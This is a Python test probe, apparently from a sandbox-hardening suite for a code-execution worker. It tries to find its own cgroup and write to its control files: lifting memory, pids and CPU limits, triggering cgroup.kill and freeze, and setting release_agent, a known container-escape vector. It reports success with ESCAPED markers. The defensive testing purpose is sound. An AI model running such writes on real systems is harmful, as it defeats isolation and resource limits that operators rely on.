# ax-id: AX-own-301-cgroup-files
# ax-layer: L2 (AST layer assumed broken: native Python in the worker)
# ax-class: cgroups
# ax-source: the worker's own group found and its limits lifted
# ax-escaped: marker
# ax-params: CANARY SECRET_FILE OUT_FILE TCP_PORT UDP_PORT UNIX_PATH ABS_NAME VICTIM_PID HOST_PID WORK SHM_NAME MAX_PROCS MEM_MIB DISK_MIB SIBLING_PID SIBLING_WORK ZYGOTE_PID
import os, glob
tops = ['/sys/fs/cgroup', *glob.glob('/sys/fs/cgroup/*')]
try:
    own = [line.rpartition(':')[2].strip() for line in open('/proc/self/cgroup')]
except OSError as error:
    print(error)
    own = ['/']
for top in tops:
    for group in own:
        for name, value in (('memory.max', 'max'), ('pids.max', 'max'), ('cpu.max', 'max'), ('cgroup.procs', '0'), ('cgroup.kill', '1'),
                            ('memory.limit_in_bytes', '-1'), ('tasks', '0'), ('cgroup.freeze', '1'), ('notify_on_release', '1'), ('release_agent', CANARY)):
            path = top + group + '/' + name
            try:
                print('AX-PARTIAL read', path, open(path).read()[:20])
            except OSError:
                pass
            try:
                fd = os.open(path, os.O_WRONLY)
                print('AX-ESCAPED opened', path)
                os.write(fd, value.encode())
            except OSError:
                pass
